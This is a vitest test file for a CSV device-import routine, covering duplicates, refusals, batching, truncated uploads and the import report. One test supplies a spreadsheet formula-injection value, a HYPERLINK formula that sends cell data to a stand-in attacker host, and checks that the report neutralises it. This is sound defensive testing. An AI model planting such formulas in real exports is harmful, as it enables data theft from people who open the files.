import { describe, expect, it } from "vitest";
import { Readable } from "node:stream";
import { eq, sql } from "drizzle-orm";
import { getDb } from "@/lib/database";
import { deviceImports, devices } from "@/db/schema";
import {
  importDevicesCsv,
  ImportFormatError,
  importReportChunks,
  ImportStopped,
  IMPORT_MAX_LINE_BYTES,
  IMPORT_BATCH_SIZE,
} from "./csv-import";

const csv = (text: string) => Readable.from([Buffer.from(text)]);

async function reportOf(importId: number): Promise<string[]> {
  let text = "";
  for await (const chunk of importReportChunks(importId)) text += chunk;
  return text.trim().split("\n");
}

async function deviceCount(prefix: string): Promise<number> {
  const [row] = await getDb()
    .select({ n: sql<number>`count(*)::int` })
    .from(devices)
    .where(sql`registration_id like ${`${prefix}%`}`);
  return row!.n;
}

/** Sends `chunks`, then fails like a socket the client closed. */
function cutShort(chunks: string[]): AsyncIterable<Uint8Array> {
  return (async function* () {
    for (const c of chunks) yield Buffer.from(c);
    throw Object.assign(new Error("aborted"), { code: "ECONNRESET" });
  })();
}

describe("CSV import", () => {
  it("adds good lines, skips duplicates and refuses bad lines with the reason, line by line", async () => {
    await getDb().insert(devices).values({ registrationId: "existing-01" });
    const summary = await importDevicesCsv(
      csv(
        [
          "registrationId,name,payload",
          "sensor-001,Boiler room,",
          'sensor-002,,"{""site"":""berlin""}"',
          "EXISTING-01,dup of an existing device,",
          "sensor-001,dup within the file,",
          "bad id!,,",
          "sensor-003,,not json",
          "sensor-004.,,",
          "",
          "sensor-005,Last,",
        ].join("\n"),
      ),
      { fileName: "fleet.csv", actor: null },
    );
    expect(summary).toMatchObject({
      status: "complete",
      stopReason: null,
      total: 8,
      added: 3,
      duplicates: 2,
      refused: 3,
    });
    expect(summary.problems.map((p) => [p.line, p.result])).toEqual([
      [4, "duplicate"],
      [5, "duplicate"],
      [6, "refused"],
      [7, "refused"],
      [8, "refused"],
    ]);
    expect(summary.problems[0]!.reason).toMatch(/already exists/);
    expect(summary.problems[1]!.reason).toMatch(/earlier in the file \(line 2\)/);
    expect(summary.problems[2]!.reason).toMatch(/letters, digits/);
    expect(summary.problems[3]!.reason).toMatch(/valid JSON/);

    const [stored] = await getDb().select().from(devices).where(eq(devices.registrationId, "sensor-002"));
    expect(stored?.payload).toEqual({ site: "berlin" });

    const [row] = await getDb().select().from(deviceImports).where(eq(deviceImports.id, summary.importId));
    expect(row).toMatchObject({ status: "complete", total: 8, added: 3, duplicates: 2, refused: 3 });
    const lines = await reportOf(summary.importId);
    expect(lines[0]).toBe("line,registrationId,result,reason");
    expect(lines).toHaveLength(9);
    expect(lines[1]).toBe("2,sensor-001,added,");
  });

  it("tells a duplicate of an earlier batch of the same file from a device that existed before", async () => {
    await getDb().insert(devices).values({ registrationId: "olddev-1" });
    const rows = Array.from({ length: IMPORT_BATCH_SIZE + 500 }, (_, i) => `batchdup-${i},,`);
    rows.push("batchdup-3,,", "olddev-1,,");
    const summary = await importDevicesCsv(csv(rows.join("\n")), { fileName: null, actor: null });
    expect(summary).toMatchObject({
      total: IMPORT_BATCH_SIZE + 502,
      added: IMPORT_BATCH_SIZE + 500,
      duplicates: 2,
    });
    expect(summary.problems.map((p) => p.reason)).toEqual([
      "the same registration ID appears earlier in the file",
      "a device with this registration ID already exists",
    ]);
  });

  it("writes refused cells into the report bounded and never as a live formula", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const long = `x${"y".repeat(5000)}!`;
    const summary = await importDevicesCsv(
      csv(`registrationId,name\n"${formula.replaceAll('"', '""')}",\n${long},\n@SUM(1),\n`),
      { fileName: null, actor: null },
    );
    expect(summary.refused).toBe(3);
    const report = (await reportOf(summary.importId)).join("\n");
    expect(report).not.toMatch(/(^|,|")=HYPERLINK/m);
    expect(report).toContain("'=HYPERLINK");
    expect(report).toContain("'@SUM(1)");
    expect(report).not.toContain("y".repeat(201));
    expect(summary.problems[1]!.registrationId.length).toBeLessThanOrEqual(201);
  });

  it("stores a refused line's NUL and control bytes as a visible mark, never failing the import", async () => {
    const summary = await importDevicesCsv(csv("ok-nul-1\nbad\u0000id\nname-nul,a\u0000b\n"), {
      fileName: "fleet\u0000.csv",
      actor: null,
    });
    expect(summary).toMatchObject({ status: "complete", added: 1, refused: 2 });
    expect((await reportOf(summary.importId)).join("\n")).toContain("bad\ufffdid");
  });

  it("stores names and payloads exactly as written, in a batch of one and of many, and no name as null", async () => {
    const name = 'Café "Nord", line 1\nline 2\twith a tab, 東京';
    const payload = { site: "a\u001fb", note: 'quote " comma , newline \n' };
    const line = (id: string) =>
      `${id},"${name.replaceAll('"', '""')}","${JSON.stringify(payload).replaceAll('"', '""')}"`;
    const one = await importDevicesCsv(csv(`registrationId,name,payload\n${line("exact-1")}`), {
      fileName: null,
      actor: null,
    });
    const many = await importDevicesCsv(
      csv(
        ["registrationId,name,payload", line("exact-2"), "exact-3,,", line("exact-4"), "exact-5"].join("\n"),
      ),
      { fileName: null, actor: null },
    );
    const alone = await importDevicesCsv(csv("registrationId,name\nexact-6,"), {
      fileName: null,
      actor: null,
    });
    expect([one.added, many.added, alone.added]).toEqual([1, 4, 1]);
    const rows = await getDb()
      .select({ registrationId: devices.registrationId, name: devices.name, payload: devices.payload })
      .from(devices)
      .where(sql`registration_id like 'exact-%'`)
      .orderBy(devices.registrationId);
    expect(rows).toEqual([
      { registrationId: "exact-1", name, payload },
      { registrationId: "exact-2", name, payload },
      { registrationId: "exact-3", name: null, payload: null },
      { registrationId: "exact-4", name, payload },
      { registrationId: "exact-5", name: null, payload: null },
      { registrationId: "exact-6", name: null, payload: null },
    ]);
  });

  it("names the devices it added even when their ids are not consecutive", async () => {
    // Another writer taking ids between ours looks like this to the import.
    await getDb().execute(sql`alter sequence devices_id_seq increment by 3`);
    try {
      const summary = await importDevicesCsv(csv("registrationId\ngaps-1\ngaps-2\ngaps-3"), {
        fileName: null,
        actor: null,
      });
      const added = await getDb()
        .select({ id: devices.id })
        .from(devices)
        .where(sql`registration_id like 'gaps-%'`)
        .orderBy(devices.id);
      expect(summary.addedDeviceIds).toEqual(added.map((d) => d.id));
      expect(summary.addedDeviceIds[1]! - summary.addedDeviceIds[0]!).toBe(3);
    } finally {
      await getDb().execute(sql`alter sequence devices_id_seq increment by 1`);
    }
  });

  it("accepts a file without a header in the documented column order", async () => {
    const summary = await importDevicesCsv(csv("noheader-1,One\nnoheader-2,Two\n"), {
      fileName: null,
      actor: null,
    });
    expect(summary).toMatchObject({ total: 2, added: 2 });
  });

  it("imports thousands of rows in batches", async () => {
    const rows = Array.from({ length: 5000 }, (_, i) => `bulk-${i},Device ${i},`).join("\n");
    const summary = await importDevicesCsv(csv(`registrationId,name,payload\n${rows}`), {
      fileName: null,
      actor: null,
    });
    expect(summary).toMatchObject({ total: 5000, added: 5000, refused: 0 });
    expect(summary.addedDeviceIds).toHaveLength(5000);
    expect(await reportOf(summary.importId)).toHaveLength(5001);
  });

  it("refuses an empty file with a clear message", async () => {
    await expect(importDevicesCsv(csv(""), { fileName: null, actor: null })).rejects.toBeInstanceOf(
      ImportFormatError,
    );
  });

  it("never reads a cut-short upload's partial last line as a device, and records the import as cut short", async () => {
    const summary = await importDevicesCsv(
      cutShort(["registrationId\ncut-aaaa-1\ncut-aaaa-2\ncut-aaaa-3", "33"]),
      { fileName: "cut.csv", actor: null },
    );
    expect(summary).toMatchObject({ status: "cut-short", stopReason: "client-gone", total: 2, added: 2 });
    expect(await deviceCount("cut-aaaa-3")).toBe(0);
    const [row] = await getDb().select().from(deviceImports).where(eq(deviceImports.id, summary.importId));
    expect(row).toMatchObject({ status: "cut-short", stopReason: "client-gone", added: 2 });
  });

  it("stops at the byte cap while streaming and reports only what it added", async () => {
    const body = `registrationId\n${Array.from({ length: 3000 }, (_, i) => `cap-${String(i).padStart(5, "0")}`).join("\n")}\n`;
    const chunks = body.match(/[\s\S]{1,4096}/g)!.map((c) => Buffer.from(c));
    const summary = await importDevicesCsv(Readable.from(chunks), {
      fileName: null,
      actor: null,
      maxBytes: 10_000,
    });
    expect(summary).toMatchObject({ status: "cut-short", stopReason: "too-large" });
    expect(summary.added).toBeGreaterThan(0);
    expect(summary.added).toBeLessThan(3000);
    expect(await deviceCount("cap-")).toBe(summary.added);
    expect(await reportOf(summary.importId)).toHaveLength(summary.total + 1);
  });

  it("stops a stream that ends before its announced length", async () => {
    await expect(
      importDevicesCsv(csv("early-1\n"), { fileName: null, actor: null, expectedBytes: 1000 }),
    ).resolves.toMatchObject({ status: "cut-short", stopReason: "upload-incomplete", added: 1 });
  });

  it("refuses a line far longer than any device line before holding it in memory", async () => {
    const error = await importDevicesCsv(
      Readable.from([Buffer.from(`x${"y".repeat(IMPORT_MAX_LINE_BYTES)}`)]),
      { fileName: null, actor: null },
    ).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportStopped);
    expect((error as ImportStopped).reason).toBe("line-too-long");
  });

  it("stops when the signal aborts (the server stopping) and keeps what it added", async () => {
    const controller = new AbortController();
    const body = (async function* () {
      yield Buffer.from("stop-1\nstop-2\n");
      controller.abort(new Error("server stopping (SIGTERM)"));
      await new Promise((r) => setTimeout(r, 50));
      yield Buffer.from("stop-3\n");
    })();
    const summary = await importDevicesCsv(body, { fileName: null, actor: null, signal: controller.signal });
    expect(summary).toMatchObject({ status: "cut-short", stopReason: "server-stopping", added: 2 });
  });
});
